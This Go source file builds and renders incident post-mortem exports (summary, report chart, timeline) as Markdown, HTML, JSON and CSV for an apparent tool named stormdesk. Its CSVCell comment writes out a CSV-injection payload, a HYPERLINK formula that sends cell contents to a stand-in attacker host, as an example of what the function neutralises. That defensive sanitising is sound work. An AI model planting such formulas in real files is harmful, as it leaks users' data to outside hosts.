package templates

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"iter"
	"sort"
	"strings"
	"time"

	"stormdesk"
)

// ExportSchema names the JSON export's schema; it changes when the shape
// does (see templates/files/export.schema.json).
const ExportSchema = "stormdesk.export/v1"

// Formats lists the export formats.
var Formats = []string{"md", "html", "json", "csv"}

// ParseFormat checks an export format name.
func ParseFormat(s string) (string, error) {
	s = strings.ToLower(strings.TrimSpace(s))
	switch s {
	case "markdown":
		return "md", nil
	case "md", "html", "json", "csv":
		return s, nil
	}
	return "", stormdesk.Errorf(stormdesk.EINVALID, "format: %q is not one of md, html, json, csv", s)
}

// Export is what an export shows. Entries is read twice at most (never
// held whole), so exports of long timelines use flat memory.
type Export struct {
	Incident    *stormdesk.Incident
	Summary     Summary
	Chart       Chart
	Entries     iter.Seq[*stormdesk.TimelineEntry]
	GeneratedAt time.Time
}

// Summary is the post-mortem's opening paragraph, in numbers.
type Summary struct {
	Start               time.Time     `json:"impact_start"`
	End                 time.Time     `json:"impact_end"`
	Duration            time.Duration `json:"-"`
	DurationSeconds     float64       `json:"duration_seconds"`
	Reports             int           `json:"reports"`
	Customers           int           `json:"distinct_customers"`
	NotificationsSent   int           `json:"notifications_sent"`
	NotificationsFailed int           `json:"notifications_failed"`
	Entries             int           `json:"timeline_entries"`
}

// Band is a span during which an upstream provider reported a status.
type Band struct {
	Provider string    `json:"provider"`
	Status   string    `json:"status"`
	Start    time.Time `json:"start"`
	End      time.Time `json:"end"`
}

// Marker is a point on the chart: a status change or a notification.
type Marker struct {
	At    time.Time `json:"at"`
	Kind  string    `json:"kind"`
	Label string    `json:"label"`
}

// Chart is reports per bucket across the incident, with upstream bands
// and markers.
type Chart struct {
	Start       time.Time `json:"start"`
	BucketWidth string    `json:"bucket_width"`
	width       time.Duration
	Buckets     []int    `json:"reports_per_bucket"`
	Bands       []Band   `json:"upstream_bands"`
	Markers     []Marker `json:"markers"`
}

// MaxBuckets bounds the chart: a long incident gets wider buckets.
const MaxBuckets = 288

// Builder gathers an export's summary and chart from streamed ticket times
// and timeline entries, in memory proportional to the number of buckets
// and status changes, not to tickets or entries.
type Builder struct {
	counts     map[int64]int // 5-minute slot → reports
	first      time.Time
	last       time.Time
	sum        Summary
	bands      []Band
	open       map[string]int // provider → index of its open band
	markers    []Marker
	firstEntry time.Time
	lastEntry  time.Time
}

// NewBuilder returns an empty Builder.
func NewBuilder() *Builder {
	return &Builder{counts: map[int64]int{}, open: map[string]int{}}
}

const slot = 5 * time.Minute

// AddReport counts one ticket received at at.
func (b *Builder) AddReport(at time.Time) {
	b.counts[at.UnixNano()/int64(slot)]++
	if b.first.IsZero() || at.Before(b.first) {
		b.first = at
	}
	if at.After(b.last) {
		b.last = at
	}
}

// entryData is the structured data the builder reads from entries.
type entryData struct {
	Status   string `json:"status"`
	To       string `json:"to"`
	Provider string `json:"provider"`
	Sent     int    `json:"sent"`
	Failed   int    `json:"failed"`
	Template string `json:"template"`
}

// AddEntry reads one timeline entry, in time order.
func (b *Builder) AddEntry(e *stormdesk.TimelineEntry) {
	b.sum.Entries++
	if b.firstEntry.IsZero() {
		b.firstEntry = e.At
	}
	b.lastEntry = e.At
	var d entryData
	if len(e.Data) > 0 {
		_ = json.Unmarshal(e.Data, &d) // entries without these fields are fine
	}
	switch e.Kind {
	case stormdesk.KindUpstream:
		p := d.Provider
		if p == "" {
			p = e.Actor
		}
		active := d.Status != "" && d.Status != "resolved" && d.Status != "postmortem" && d.Status != "operational"
		if i, ok := b.open[p]; ok {
			if active && b.bands[i].Status == d.Status {
				break // the same status goes on: one band, not two
			}
			b.bands[i].End = e.At
			delete(b.open, p)
		}
		if active {
			b.open[p] = len(b.bands)
			b.bands = append(b.bands, Band{Provider: p, Status: d.Status, Start: e.At})
		}
	case stormdesk.KindStatusChange, stormdesk.KindAcknowledged, stormdesk.KindDeclared:
		label := d.To
		if label == "" {
			label = e.Kind
		}
		b.markers = append(b.markers, Marker{At: e.At, Kind: e.Kind, Label: label})
	case stormdesk.KindNotification:
		// A message has two entries: queued, then its delivery report;
		// the summary and the chart count what was sent.
		b.sum.NotificationsSent += d.Sent
		b.sum.NotificationsFailed += d.Failed
		if d.Sent > 0 || d.Failed > 0 {
			b.markers = append(b.markers, Marker{At: e.At, Kind: e.Kind, Label: fmt.Sprintf("%s email: %d sent", d.Template, d.Sent)})
		}
	}
}

// Build finishes the summary and chart for inc, whose counts come from the
// store (reports, distinct customers).
func (b *Builder) Build(inc *stormdesk.Incident, reports, customers int) (Summary, Chart) {
	s := b.sum
	s.Reports, s.Customers = reports, customers
	// The impact window runs from the first report (or, with no report,
	// the first entry) to the resolution (or, while open, the last thing
	// that happened).
	s.Start = b.first
	if s.Start.IsZero() {
		s.Start = b.firstEntry
	}
	switch {
	case inc.ResolvedAt != nil:
		s.End = *inc.ResolvedAt
	case b.last.After(b.lastEntry):
		s.End = b.last
	default:
		s.End = b.lastEntry
	}
	if s.End.Before(s.Start) {
		s.End = s.Start
	}
	s.Duration = s.End.Sub(s.Start)
	s.DurationSeconds = s.Duration.Seconds()

	c := Chart{Bands: b.bands}
	// The chart spans the reports and the upstream trouble (so an outage
	// that began before the first ticket shows), with a little margin; a
	// long quiet tail before the resolution is left out of the picture.
	lo, hi := b.first, b.last
	widen := func(t time.Time) {
		if t.IsZero() {
			return
		}
		if lo.IsZero() || t.Before(lo) {
			lo = t
		}
		if t.After(hi) {
			hi = t
		}
	}
	for _, band := range b.bands {
		widen(band.Start)
		widen(band.End)
	}
	if lo.IsZero() {
		widen(b.firstEntry)
		widen(b.lastEntry)
	}
	if !hi.IsZero() {
		hi = hi.Add(30 * time.Minute)
	}
	for i := range c.Bands {
		if c.Bands[i].End.IsZero() || c.Bands[i].End.After(hi) {
			c.Bands[i].End = hi
		}
	}
	for _, m := range b.markers {
		if !m.At.Before(lo) && !m.At.After(hi) {
			c.Markers = append(c.Markers, m)
		}
	}
	if lo.IsZero() {
		c.BucketWidth = Duration(slot)
		c.width = slot
		return s, c
	}
	first, last := lo.UnixNano()/int64(slot), hi.UnixNano()/int64(slot)
	per := (last-first)/MaxBuckets + 1 // slots per bucket
	c.width = time.Duration(per) * slot
	c.BucketWidth = Duration(c.width)
	c.Start = time.Unix(0, first*int64(slot)).UTC()
	c.Buckets = make([]int, (last-first)/per+1)
	keys := make([]int64, 0, len(b.counts))
	for k := range b.counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	for _, k := range keys {
		c.Buckets[(k-first)/per] += b.counts[k]
	}
	return s, c
}

// Render writes the export in format (md, html, json or csv).
func Render(w io.Writer, format string, x *Export) error {
	bw := bufio.NewWriterSize(w, 64<<10)
	var err error
	switch format {
	case "md":
		err = mdExport.Execute(bw, mdView{x, days(x.Entries)})
	case "html":
		err = htmlExport.Execute(bw, newHTMLView(x))
	case "json":
		err = renderJSON(bw, x)
	case "csv":
		err = renderCSV(bw, x)
	default:
		return stormdesk.Errorf(stormdesk.EINVALID, "format: %q is not one of md, html, json, csv", format)
	}
	if err != nil {
		return fmt.Errorf("templates: render %s: %w", format, err)
	}
	if err := bw.Flush(); err != nil {
		return fmt.Errorf("templates: write %s: %w", format, err)
	}
	return nil
}

// Line is a timeline entry with the day heading that precedes it, if it
// is the first entry of its day. After the last entry comes one Line with
// End set and no entry, so that templates can close what they opened.
type Line struct {
	Day   string
	First bool
	End   bool
	*stormdesk.TimelineEntry
}

func days(entries iter.Seq[*stormdesk.TimelineEntry]) iter.Seq[Line] {
	return func(yield func(Line) bool) {
		prev := ""
		first := true
		for e := range entries {
			l := Line{TimelineEntry: e, First: first}
			first = false
			if d := Day(e.At); d != prev {
				l.Day, prev = d, d
			}
			if !yield(l) {
				return
			}
		}
		if !first {
			yield(Line{End: true})
		}
	}
}

type mdView struct {
	*Export
	Lines iter.Seq[Line]
}

func renderJSON(w io.Writer, x *Export) error {
	head := struct {
		Schema      string              `json:"schema"`
		GeneratedAt time.Time           `json:"generated_at"`
		Incident    *stormdesk.Incident `json:"incident"`
		Summary     Summary             `json:"summary"`
		Chart       Chart               `json:"chart"`
	}{ExportSchema, x.GeneratedAt.UTC(), x.Incident, x.Summary, x.Chart}
	b, err := json.Marshal(head)
	if err != nil {
		return err
	}
	// Stream the timeline into the object: the head without its closing
	// brace, then the entries one by one.
	if _, err := w.Write(b[:len(b)-1]); err != nil {
		return err
	}
	if _, err := io.WriteString(w, `,"timeline":[`); err != nil {
		return err
	}
	first := true
	for e := range x.Entries {
		if !first {
			if _, err := io.WriteString(w, ","); err != nil {
				return err
			}
		}
		first = false
		b, err := json.Marshal(e)
		if err != nil {
			return err
		}
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	_, err = io.WriteString(w, "]}\n")
	return err
}

func renderCSV(w io.Writer, x *Export) error {
	cw := csv.NewWriter(w)
	if err := cw.Write([]string{"at", "kind", "actor", "text", "source_url", "data"}); err != nil {
		return err
	}
	for e := range x.Entries {
		row := []string{e.At.UTC().Format(time.RFC3339), e.Kind, e.Actor, e.Text, e.SourceURL, string(e.Data)}
		for i := range row {
			row[i] = CSVCell(row[i])
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// CSVCell neutralises a cell that a spreadsheet would run as a formula:
// one starting with =, +, -, @, a tab or a carriage return gets a single
// quote in front (OWASP's rule for CSV injection), so that a note
// =HYPERLINK("https://evil.example/?"&A1,"click") or an actor @SUM(1+1)
// opens as the text it is. Every cell of the CSV export goes through it.
func CSVCell(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}
